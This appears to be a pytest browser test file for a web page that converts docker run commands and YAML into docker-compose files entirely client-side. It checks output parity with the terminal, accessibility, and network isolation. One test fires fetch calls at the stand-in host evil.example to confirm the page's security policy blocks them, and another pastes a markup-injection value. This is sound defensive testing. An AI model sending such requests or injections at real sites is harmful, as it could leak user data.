"""The page as static files in a headless Chromium: the converter runs there, and nothing goes anywhere else."""

from __future__ import annotations

import json
import os
import re
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from browsers import complaints, open_browser
from corpora import corpus_sources
from tocompose.web.static import MissingRuntime, PageExists, write_page
from web import test_page as with_server
from web.pages import (
    HOSTILE,
    RUN,
    Recorder,
    at_terminal,
    beside,
    downloaded,
    drop,
    in_browser,
    lines,
    open_page,
    paste,
    serve_folder,
    settle,
    tabs,
)

RUNTIME = os.environ.get("TOCOMPOSE_BROWSER_RUNTIME", "")
needs_runtime = pytest.mark.skipif(
    not RUNTIME, reason="needs pyodide, web-tree-sitter and tree-sitter-bash from npm"
)


class StaticPage(NamedTuple):
    """Where the page is, and where its files are."""

    url: str
    folder: Path


@pytest.fixture(scope="module")
def static(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StaticPage]:
    folder = tmp_path_factory.mktemp("page")
    write_page(folder, Path(RUNTIME))
    with serve_folder(folder) as url:
        yield StaticPage(url, folder)


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("downloads")


@pytest.fixture(scope="module")
def page(static: StaticPage, downloads: Path) -> Iterator[Any]:
    """The page, opened once: Python is loaded once."""
    with open_browser(downloads) as browser:
        browser.set_script_timeout(600)
        open_page(browser, static.url)
        yield browser


@needs_runtime
@pytest.mark.browser
def test_it_converts_in_the_browser(page: Any) -> None:
    assert paste(page, RUN).startswith("7 files and ")
    assert tabs(page)[0] == "docker-compose.yml"
    assert "    image: nginx:1.27" in lines(page)
    notes = beside(page)
    assert any(note.startswith("lost") and "--frobnicate" in note for note in notes["web:"])
    drop(page, {"Procfile": "web: node server.js\n", "package.json": "{}"}, "shop")
    assert page.find_element("id", "result-title").text.startswith("shop: 1 service")
    page.find_element("id", "clear").click()
    assert complaints(page) == []


@needs_runtime
@pytest.mark.browser
def test_nothing_of_a_source_becomes_markup(page: Any) -> None:
    paste(page, f"docker run --label 'a={HOSTILE}' --{HOSTILE} nginx </script>")
    assert page.title == "tocompose"
    assert page.find_elements("css selector", "main img, main script") == []


@needs_runtime
@pytest.mark.browser
@pytest.mark.parametrize(
    "holds",
    [
        with_server.test_notes_stand_beside_their_lines,
        with_server.test_the_keyboard_is_enough,
        with_server.test_every_control_has_a_name,
        partial(with_server.test_both_themes_can_be_read, theme="light"),
        partial(with_server.test_both_themes_can_be_read, theme="dark"),
        with_server.test_a_phone_does_not_scroll_sideways,
    ],
)
def test_it_is_as_with_a_server(page: Any, holds: Callable[[Any], None]) -> None:
    button = page.find_element("id", "clear")
    if button.is_displayed():
        button.click()
    holds(page)
    assert complaints(page) == []


@needs_runtime
@pytest.mark.browser
def test_all_files_are_downloaded(page: Any, downloads: Path) -> None:
    paste(page, RUN)
    page.find_element("id", "download").click()
    with zipfile.ZipFile(downloaded(downloads)) as archive:
        held = {name: archive.read(name).decode() for name in archive.namelist()}
    answer = json.loads(at_terminal("convert", json.dumps({"text": RUN})))
    assert held == {file["path"]: file["text"] for file in answer["files"]}


@needs_runtime
@pytest.mark.browser
def test_nothing_leaves_the_browser(page: Any, static: StaticPage) -> None:
    Recorder.asked.clear()
    assert paste(page, RUN.replace("web", "s3cret-name")).startswith("7 files")
    assert Recorder.asked == []
    for script in (
        "return fetch('https://evil.example/').then(() => 'sent', () => 'refused')",
        "return new Worker(URL.createObjectURL(new Blob([\"fetch('https://evil.example/')"
        ".then(() => postMessage('sent'), () => postMessage('refused'))\"]))) && 'refused'",
    ):
        assert page.execute_script(script) == "refused"
    text = (static.folder / "index.html").read_text()
    policy = text.partition('Content-Security-Policy" content="')[2].partition('"')[0]
    assert "default-src 'none'" in policy and "unsafe-eval" not in policy.replace(
        "wasm-unsafe-eval", ""
    )
    complaints(page)


@needs_runtime
@pytest.mark.browser
@pytest.mark.slow
def test_each_docker_run_source_gives_the_same_bytes(page: Any) -> None:
    """A sample; `python tests/benchmarks browser` tries all of them."""
    sources = [files for _, kind, files in corpus_sources() if kind == "docker_run"][::4]
    if not sources:
        pytest.skip("needs the corpus")
    requests = [
        (
            "convert",
            json.dumps({"files": {name: data.decode() for name, data in files.items()}}),
        )
        for files in sources
    ]
    expected = [at_terminal(*request) for request in requests]
    assert in_browser(page, requests) == expected


# What the browser reads by other means than the terminal: shell structure, YAML with its places and its faults.
ODD = [
    "for x in a b; do docker run -d --name \"$x\" -e 'Ä=ß€😀' nginx; done; if docker run -d x; then echo 😀; fi\n",
    'case $1 in a) docker run --name é a;; *) docker run b ;; esac\nf() { docker run "$@"; }\nf -d --name 🐳 c\n',
    "docker run -d a && { docker run b || docker run 'c; }\nwhile read x; do docker run $x\n",
    'kind: Pod\nmetadata: {name: "ü", labels: {a: &x b, c: *x}}\nspec:\n  containers:\n'
    "  - name: 'é'\n    image: >-\n      nginx\n    command: [\"\\u00e9\", 'it''s', ~, 010, 1e3]\n",
    "services: {a: {image: 'x', ports: [80:80, '1:2']}, b: {<<: *nope}}\n---\n%YAML 1.1\n---\na: !!binary x\n",
    "version: '2'\nservices:\n  web:\n    image: nginx\n    \tports: x\n",
    "x: &a {image: nginx}\nservices:\n  web:\n    <<: *a\n    environment:\n      A: |+\n        x\n\n"
    '      B: "a\\\n        b"\n',
]
# Faults of YAML that each parser tells in words of its own.
BROKEN = [
    "kind: Pod\nspec:\n  containers:\n  - bad: [\n",
    "services:\n  web:\n    environment: {A: |+\n      x\n}\n",
]


@needs_runtime
@pytest.mark.browser
@pytest.mark.parametrize("operation", ["convert", "check"])
def test_odd_sources_give_the_same_bytes(page: Any, operation: str) -> None:
    requests = [(operation, json.dumps({"text": source})) for source in ODD]
    assert in_browser(page, requests) == [at_terminal(*request) for request in requests]


@needs_runtime
@pytest.mark.browser
def test_faults_stand_at_the_same_place(page: Any) -> None:
    requests = [("check", json.dumps({"text": source})) for source in BROKEN]
    theirs = [json.loads(answer)["problem"] for answer in in_browser(page, requests)]
    ours = [json.loads(at_terminal(*request))["problem"] for request in requests]
    opening = "a document was left out:"
    assert all(opening in problem for problem in ours)
    assert [text.split(opening)[0] for text in theirs] == [
        text.split(opening)[0] for text in ours
    ]


def test_a_missing_runtime_is_one_sentence(tmp_path: Path) -> None:
    packages = "pyodide web-tree-sitter tree-sitter-bash"
    command = f"run: npm install --prefix {tmp_path} {packages}"
    with pytest.raises(MissingRuntime, match=re.escape(command)):
        write_page(tmp_path / "page", tmp_path)
    assert not (tmp_path / "page").exists()


@needs_runtime
def test_a_file_that_is_there_is_not_overwritten(static: StaticPage) -> None:
    page, before = static.folder / "index.html", _contents(static.folder)
    page.write_text("mine")
    with pytest.raises(PageExists, match="--force"):
        write_page(static.folder, Path(RUNTIME))
    assert page.read_text() == "mine"
    write_page(static.folder, Path(RUNTIME), force=True)
    assert _contents(static.folder) == before


def _contents(folder: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@needs_runtime
@pytest.mark.browser
def test_what_the_browser_cannot_load_is_said(page: Any, static: StaticPage) -> None:
    archive = static.folder / "tocompose.zip"
    content = archive.read_bytes()
    archive.write_bytes(b"")
    try:
        open_page(page, static.url)
        paste(page, RUN)
        assert "has stopped" in settle(page)
    finally:
        archive.write_bytes(content)
